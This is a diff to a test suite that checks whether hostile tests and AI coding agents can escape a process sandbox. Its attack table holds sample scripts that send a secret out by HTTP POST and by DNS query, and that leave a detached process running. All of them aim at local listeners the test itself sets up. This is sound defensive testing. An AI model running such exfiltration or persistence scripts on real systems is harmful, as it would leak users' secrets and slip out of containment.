@@ -1,5 +1,7 @@
 // Hostile tests and agents inside a sandbox try to get out. Each attack works without the sandbox.
 import { spawnSync } from 'node:child_process'
+import { createSocket } from 'node:dgram'
+import { once } from 'node:events'
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { createServer, type AddressInfo, type Server } from 'node:net'
 import os from 'node:os'
@@ -7,6 +9,7 @@ import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { Config } from '../../src/contract/config/config.js'
 import { isEngine, type SandboxComponent } from '../../src/contract/sandbox.js'
+import type { KnownName } from '../../src/contract/known-agents.js'
 import type { Workspace } from '../../src/contract/workspace.js'
 import { installedComponents } from '../../src/adapters/sandbox/find-component.js'
 import { agentSandbox, sandboxOf } from '../../src/adapters/sandbox/run-sandbox.js'
@@ -53,17 +56,23 @@ function commandLine(pid: number): string {
   }
 }
 let connections = 0
+/** What was sent to the service and to the name server. */
+let received = ''
+const nameServer = createSocket('udp4', (packet) => {
+  received += packet.toString('latin1')
+})
 const servers: Server[] = []
 const listening = (): Promise<number> =>
   new Promise((resolve) => {
     const one = createServer((client) => {
       connections += 1
+      client.on('data', (bytes) => (received += bytes.toString())).on('error', () => undefined)
       client.end()
     })
     servers.push(one)
     one.listen(0, '127.0.0.1', () => resolve((one.address() as AddressInfo).port))
   })
-let [temporal, service] = [0, 0]
+let [temporal, service, names] = [0, 0, 0]
 
 beforeAll(async () => {
   for (const dir of [project, other, root, path.join(home, '.ssh'), path.join(home, '.claude')])
@@ -82,6 +91,9 @@ beforeAll(async () => {
     JSON.stringify({ path: other, key: projectKey(other), registeredAt: 'now' }),
   )
   ;[temporal, service] = [await listening(), await listening()]
+  nameServer.bind(0, '127.0.0.1')
+  await once(nameServer, 'listening')
+  names = nameServer.address().port
   mkdirSync(path.dirname(layout.serverRecord(dirs)), { recursive: true })
   writeFileSync(
     layout.serverRecord(dirs),
@@ -90,6 +102,7 @@ beforeAll(async () => {
 })
 afterAll(() => {
   for (const one of servers) one.close()
+  nameServer.close()
   rmSync(home, { recursive: true, force: true })
 })
 
@@ -165,6 +178,18 @@ const ATTACKS: readonly Attack[] = [
     worked: () => connections > 0,
   },
   {
+    what: 'send by HTTP',
+    script: () =>
+      `require('http').request({ port: ${service}, host: '127.0.0.1', method: 'POST' }).on('error', () => process.exit()).on('response', () => process.exit()).end(${JSON.stringify(SECRET)})`,
+    worked: () => saysSecret(received),
+  },
+  {
+    what: 'send by DNS',
+    script: () =>
+      `const r = new (require('dns').Resolver)({ timeout: 300, tries: 1 }); r.setServers(['127.0.0.1:${names}']); r.resolve4('thesecretoftheuser.example.com', () => process.exit())`,
+    worked: () => received.includes('thesecretoftheuser'),
+  },
+  {
     what: 'leave a process behind',
     script: () =>
       `require('child_process').spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000) // ${DAEMON}'], { detached: true, stdio: 'ignore', env: {} }).unref()`,
@@ -174,10 +199,19 @@ const ATTACKS: readonly Attack[] = [
 
 const reset = (): void => {
   connections = 0
+  received = ''
   for (const dir of ['state', 'project', 'other', '.claude', ''])
     rmSync(marks(path.join(home, dir)), { force: true })
   for (const pid of daemons()) process.kill(pid, 'SIGKILL')
 }
+
+const agentIn = (component: SandboxComponent, known: KnownName): SpawnGroup =>
+  agentSandbox({ dirs, env }, config(component), workspace, {
+    known,
+    folder: path.join(dirs.state, 'turn'),
+    write: [],
+    spawn: spawnGroup,
+  })
 
 describe.each(COMPONENTS)('$component', ({ component }) => {
   test.each(ATTACKS)('a hostile test cannot $what', async ({ script, worked }) => {
@@ -188,8 +222,22 @@ describe.each(COMPONENTS)('$component', ({ component }) => {
     expect(worked(await attack(script(), spawn))).toBe(false)
   })
 
-  test('inside, the workspace and the temporary directory can be written', async () => {
-    const spawn = sandboxOf({ dirs, env }, config(component))(workspace, 'tests')
+  // Another agent than the one whose login the attacks look for.
+  test.each(ATTACKS)('a hostile agent cannot $what', async ({ script, worked }) => {
+    reset()
+    expect(worked(await attack(script(), agentIn(component, 'codex')))).toBe(false)
+  })
+
+  // Nothing gets out of a sandbox in which nothing starts.
+  test.each([
+    {
+      who: 'a test',
+      enclosed: () => sandboxOf({ dirs, env }, config(component))(workspace, 'tests'),
+    },
+    { who: 'an agent', enclosed: () => agentIn(component, 'codex') },
+  ])('the control: $who writes the workspace and the temporary directory', async ({ enclosed }) => {
+    const spawn = enclosed()
+    rmSync(path.join(root, 'made'), { force: true })
     const said = await attack(
       "const fs = require('fs'); fs.writeFileSync('made', 'x'); fs.writeFileSync(require('os').tmpdir() + '/made', 'x'); console.log('both')",
       spawn,
@@ -233,13 +281,7 @@ describe.each(COMPONENTS)('$component', ({ component }) => {
 })
 
 describe.each(COMPONENTS.filter(({ component }) => component === 'bwrap'))('$component', () => {
-  const agent = (): SpawnGroup =>
-    agentSandbox({ dirs, env }, config('bwrap'), workspace, {
-      known: 'claude',
-      folder: path.join(dirs.state, 'turn'),
-      write: [],
-      spawn: spawnGroup,
-    })
+  const agent = (): SpawnGroup => agentIn('bwrap', 'claude')
 
   test('an agent sees a copy of its own folder, and what it writes there stays inside', async () => {
     reset()
